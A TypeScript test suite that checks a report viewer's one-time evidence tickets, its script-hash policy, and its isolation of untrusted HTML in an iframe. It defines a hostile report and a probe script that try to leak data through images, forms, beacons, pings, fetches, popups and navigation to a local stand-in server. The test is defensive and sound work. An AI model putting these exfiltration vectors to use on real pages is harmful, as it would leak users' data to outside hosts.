import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { chromium, type Browser, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chromiumPath, needsChromium } from '../journeys/workbench.ts';
import { reportScripts } from '../../native/engine/host/page/contract.ts';
import { ask, testLoopback, type TestLoopback } from './loopback.ts';

const root = path.join(import.meta.dirname, '../..');
let loopback: TestLoopback;
beforeAll(async () => {
  loopback = await testLoopback();
});
afterAll(() => loopback.end());

describe('the ticket of a report', () => {
  test('shows it once', async () => {
    const ticket = loopback.evidence.offer(Buffer.from('<p>report'));
    expect(await ask(loopback, `/evidence/${ticket}`)).toMatchObject({ status: 200, body: '<p>report' });
    expect(await ask(loopback, `/evidence/${ticket}`)).toMatchObject({ status: 404 });
  });

  test('is not used up by who may not have it', async () => {
    const ticket = loopback.evidence.offer(Buffer.from('<p>report'));
    await ask(loopback, `/evidence/${ticket}`, { headers: { origin: 'https://other.example' } });
    await ask(loopback, `/evidence/${ticket}`, {
      headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'iframe' },
    });
    expect((await ask(loopback, `/evidence/${ticket}`)).status).toBe(200);
  });

  test('is no guess, and only the newest are kept', async () => {
    for (const guess of ['', '.', '..', '__proto__', 'x'.repeat(43)])
      expect((await ask(loopback, `/evidence/${guess}`)).status).toBe(404);
    const first = loopback.evidence.offer(Buffer.from('first'));
    for (let i = 0; i < 16; i++) loopback.evidence.offer(Buffer.from('later'));
    expect((await ask(loopback, `/evidence/${first}`)).status).toBe(404);
  });
});

test('the script of our report is among those that may run', () => {
  const ours = readFileSync(path.join(root, 'assets/report/report.js'), 'utf8').trim();
  expect(reportScripts).toContain(`'sha256-${createHash('sha256').update(ours).digest('base64')}'`);
});

/** A report whose author wishes us ill: what needs no script to leave the frame. */
function hostileReport(outside: string): string {
  return `<!doctype html><link rel="dns-prefetch" href="${outside}"><link rel="preconnect" href="${outside}">
<link rel="prefetch" href="${outside}/prefetch"><link rel="stylesheet" href="${outside}/style">
<img src="${outside}/image"><script src="${outside}/script"></script><iframe src="${outside}/frame"></iframe>
<object data="${outside}/object"></object><video src="${outside}/video"></video>
<a id="ping" href="#x" ping="${outside}/ping">x</a>
<form id="form" action="${outside}/form" method="post" target="_self"><input name="a" value="b"></form>
<meta http-equiv="refresh" content="1;url=${outside}/refresh">
<p id="shown" onclick="parent.postMessage('handler', '*')">figures</p>
<script>document.title = 'ran'; parent.postMessage('script', '*'); new RTCPeerConnection();</script>
<svg><script>parent.postMessage('svg', '*')</script></svg><img src="x:" onerror="parent.postMessage('error', '*')">`;
}

/** What a script in the frame could do, if one ran there by a hole in the browser or in our own script. */
async function whatItCould({ outside, own }: { outside: string; own: string }): Promise<string[]> {
  const could: string[] = [];
  const attempt = async (name: string, work: () => unknown) => {
    try {
      await work();
      could.push(name);
    } catch {
      // Refused.
    }
  };
  const answered = (target: { onerror: unknown }, event: string) =>
    new Promise((good, bad) => Object.assign(target, { [event]: good, onerror: bad }));
  await attempt('the page', () => parent.document.body);
  await attempt('its address', () => parent.location.href);
  await attempt('its session', () => top!.sessionStorage.length);
  await attempt('own storage', () => sessionStorage.length);
  await attempt('cookies', () => (document.cookie = 'a=b'));
  await attempt('a fetch', () => fetch(`${outside}/fetch`, { mode: 'no-cors' }));
  await attempt('a fetch of ours', () => fetch(`${own}/`, { mode: 'no-cors' }));
  await attempt('a connection', () =>
    answered(new WebSocket(`${own.replace('http', 'ws')}/engine`), 'onopen'),
  );
  await attempt('events', () => answered(new EventSource(`${outside}/events`), 'onopen'));
  const code = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
  await attempt('a worker', () => answered(new Worker(code), 'onmessage'));
  await attempt('a popup', () => {
    if (window.open(`${outside}/popup`) === null) throw new Error('refused');
  });
  await attempt('the tab', () => top!.location.assign(`${outside}/top`));
  navigator.sendBeacon(`${outside}/beacon`);
  document.querySelector<HTMLAnchorElement>('#ping')?.click();
  document.querySelector('form')?.submit();
  setTimeout(() => location.assign(`${outside}/away?secret=1`), 50);
  return could;
}

describe.skipIf(chromiumPath === undefined)(`a hostile report in its frame${needsChromium}`, () => {
  let browser: Browser;
  let page: Page;
  let outside: Server;
  const reached: string[] = [];
  beforeAll(async () => {
    outside = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({ executablePath: chromiumPath!, args: ['--no-sandbox'] });
    page = await browser.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    outside?.close();
  });

  /** Shows a report as the page does, but without a sandbox of the frame: the answer's policy alone must hold. */
  async function show(html: string): Promise<Frame> {
    const ticket = loopback.evidence.offer(Buffer.from(html));
    await page.evaluate((address) => {
      document.querySelector('iframe')?.remove();
      const frame = document.createElement('iframe');
      frame.src = address;
      const shown = new Promise((resolve) => (frame.onload = resolve));
      document.body.append(frame);
      return shown;
    }, `/evidence/${ticket}`);
    return page.frames().find((frame) => frame.url().endsWith(ticket))!;
  }

  const outsideAddress = () => `http://127.0.0.1:${String((outside.address() as AddressInfo).port)}`;

  test('runs no script but ours, and shows its figures', async () => {
    await page.goto(`${loopback.origin}/`);
    await page.evaluate(() => {
      const said: unknown[] = [];
      Object.assign(window, { said });
      addEventListener('message', ({ data }) => said.push(data));
    });
    const frame = await show(hostileReport(outsideAddress()));
    await frame.locator('#shown').click();
    expect(await frame.title()).toBe('');
    expect(await page.evaluate(() => (window as unknown as { said: unknown[] }).said)).toEqual([]);
    const ours = readFileSync(path.join(root, 'assets/report/report.js'), 'utf8').trim();
    const own = await show(`<title>x</title><p>figures</p><script>${ours}</script>`);
    const violations: string[] = [];
    page.on('console', (message) => violations.push(message.text()));
    await own.locator('p').click();
    expect(violations).toEqual([]);
  });

  test('reaches neither the page nor the network, not even by a script', async () => {
    await page.goto(`${loopback.origin}/`);
    const frame = await show(hostileReport(outsideAddress()));
    expect(await frame.evaluate(whatItCould, { outside: outsideAddress(), own: loopback.origin })).toEqual(
      [],
    );
    await page.waitForTimeout(1500);
    expect(reached).toEqual([]);
    expect(page.url()).toBe(`${loopback.origin}/`);
    expect(browser.contexts().flatMap((context) => context.pages())).toHaveLength(1);
  });

  test('is shown by no other site', async () => {
    const ticket = loopback.evidence.offer(Buffer.from('<p>report'));
    const other = await browser.newPage();
    await other.goto(`http://127.0.0.1:${String((outside.address() as AddressInfo).port)}/other`);
    const [answer] = await Promise.all([
      other.waitForResponse((response) => response.url().includes('/evidence/')),
      other.evaluate((address) => {
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
      }, `${loopback.origin}/evidence/${ticket}`),
    ]);
    expect(answer.status()).toBe(403);
    await other.close();
  });
});
